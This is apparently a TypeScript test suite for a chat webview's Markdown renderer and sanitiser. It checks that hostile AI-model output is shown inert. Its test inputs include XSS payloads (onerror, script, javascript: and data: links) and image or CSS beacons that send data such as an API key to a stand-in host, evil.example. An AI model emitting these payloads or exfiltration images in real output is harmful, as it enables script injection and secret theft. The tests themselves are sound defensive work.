// Model output rendered for the chat: markdown-it (raw HTML off) + DOMPurify, run under jsdom. Hostile output
// must produce no executable content and no URL that loads by itself.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'module';
import type { WindowLike } from 'dompurify';
import { createMarkdownRenderer, parseFileRef } from '../../src/webview/markdown';

// jsdom reads its own files at run time, so it is loaded from node_modules rather than bundled.
const { JSDOM } = createRequire(__filename)('jsdom') as { JSDOM: new (html: string) => { window: Window & typeof globalThis } };
const { window } = new JSDOM('<!DOCTYPE html><body></body>');
const md = createMarkdownRenderer(window as unknown as WindowLike);

/** Parses rendered HTML and lists what would be dangerous in a webview. */
function audit(html: string): string[] {
  const doc = new window.DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  const problems: string[] = [];
  for (const el of Array.from(doc.body.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'img', 'iframe', 'object', 'embed', 'style', 'link', 'svg', 'math', 'video', 'audio', 'source', 'form', 'meta', 'base'].includes(tag)) {
      problems.push(`element <${tag}>`);
    }
    for (const a of Array.from(el.attributes)) {
      const name = a.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`handler ${name} on <${tag}>`);
      if (['src', 'srcset', 'style', 'action', 'formaction', 'background', 'poster', 'xlink:href'].includes(name)) problems.push(`attribute ${name} on <${tag}>`);
      if (name === 'href' && !/^https?:\/\//i.test(a.value)) problems.push(`href ${a.value}`);
      if (/javascript:|vbscript:|data:/i.test(a.value)) problems.push(`${name}=${a.value}`);
    }
  }
  return problems;
}

/**
 * Whether `host` appears in the output's markup other than as a link the user can click (linkify turns a URL
 * written in text into one; it loads nothing by itself).
 */
function urlsInMarkup(html: string, host: string): boolean {
  const doc = new window.DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  return Array.from(doc.body.querySelectorAll('*')).some((el) =>
    Array.from(el.attributes).some((a) => a.value.includes(host) && !(el.tagName === 'A' && (a.name === 'href' || a.name === 'title'))),
  );
}

test('raw HTML in model output is shown as text, never parsed', () => {
  for (const attack of [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)>',
    '<style>body{background:url(https://evil.example/leak)}</style>',
    '<div style="background:url(https://evil.example/leak)">x</div>',
  ]) {
    const html = md.render(`Look: ${attack}`);
    assert.deepEqual(audit(html), [], html);
    assert.ok(!urlsInMarkup(html, 'evil.example'), html);
    const text = new window.DOMParser().parseFromString(html, 'text/html').body.textContent ?? '';
    assert.ok(text.includes(attack.slice(0, 8)), `the attack stays visible as text: ${html}`);
  }
});

test('javascript: and other non-web links are not links', () => {
  for (const src of [
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](javascript&#58;alert(1))',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](file:///etc/passwd)',
    '[click](command:workbench.action.terminal.new)',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
  ]) {
    const html = md.render(src);
    assert.deepEqual(audit(html), [], `${src} -> ${html}`);
    assert.doesNotMatch(html, /<a [^>]*href/, `${src} -> ${html}`);
  }
});

test('images never load: external images become their alt text, with no URL left', () => {
  for (const src of [
    '![secret](https://evil.example/leak?d=API_KEY)',
    '![](https://evil.example/pixel.png)',
    '![a][ref]\n\n[ref]: https://evil.example/x.png',
    '[![badge](https://evil.example/b.svg)](https://evil.example/)',
  ]) {
    const html = md.render(src);
    assert.deepEqual(audit(html), [], html);
    assert.doesNotMatch(html, /<img/i);
    if (!src.startsWith('[![')) assert.ok(!html.includes('evil.example'), `${src} -> ${html}`);
  }
  assert.match(md.render('![secret](https://evil.example/x.png)'), /secret/);
});

test('the sanitiser alone removes executable content (in case the Markdown stage lets something through)', () => {
  const html = md.sanitize(
    '<p onclick="alert(1)">a</p><img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">j</a>' +
      '<a href="https://ok.example/">ok</a><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input></form>' +
      '<svg><image href="https://evil.example/x"/></svg><div style="background:url(https://evil.example)">s</div>',
  );
  assert.deepEqual(audit(html), [], html);
  assert.ok(!html.includes('evil.example'), html);
  assert.match(html, /<a href="https:\/\/ok.example\/"[^>]*rel="noopener noreferrer"/);
});

test('ordinary Markdown renders: emphasis, lists, tables, web links, code blocks with their language', () => {
  const html = md.render('**bold** and _it_\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com/docs)\n\n```ts\nconst a = "<b>";\n```');
  assert.match(html, /<strong>bold<\/strong>/);
  assert.match(html, /<li>one<\/li>/);
  assert.match(html, /<table>/);
  assert.match(html, /<a href="https:\/\/example.com\/docs"/);
  assert.match(html, /<pre class="code-block" data-lang="ts"><code>const a = "&lt;b&gt;";\n<\/code><\/pre>/);
  assert.deepEqual(audit(html), []);
});

test('file paths become links the host opens (no href)', () => {
  const html = md.render('See `src/engine/ingest.ts:42` and [the walker](src/workspace/walk.ts#L10), not `1.2.3` or `npm test`.');
  const doc = new window.DOMParser().parseFromString(html, 'text/html');
  const links = Array.from(doc.querySelectorAll('a.file-link')).map((a) => [a.getAttribute('data-path'), a.getAttribute('data-line'), a.hasAttribute('href')]);
  assert.deepEqual(links, [
    ['src/engine/ingest.ts', '42', false],
    ['src/workspace/walk.ts', '10', false],
  ]);
  assert.deepEqual(parseFileRef('a/b.py'), { path: 'a/b.py' });
  assert.deepEqual(parseFileRef('b.py:7:3'), { path: 'b.py', line: 7 });
  assert.equal(parseFileRef('../../etc/passwd.txt'), null);
  assert.equal(parseFileRef('1.2.3'), null);
  assert.equal(parseFileRef('hello world.ts'), null);
  assert.equal(parseFileRef('https://x.example/a.js'), null);
});
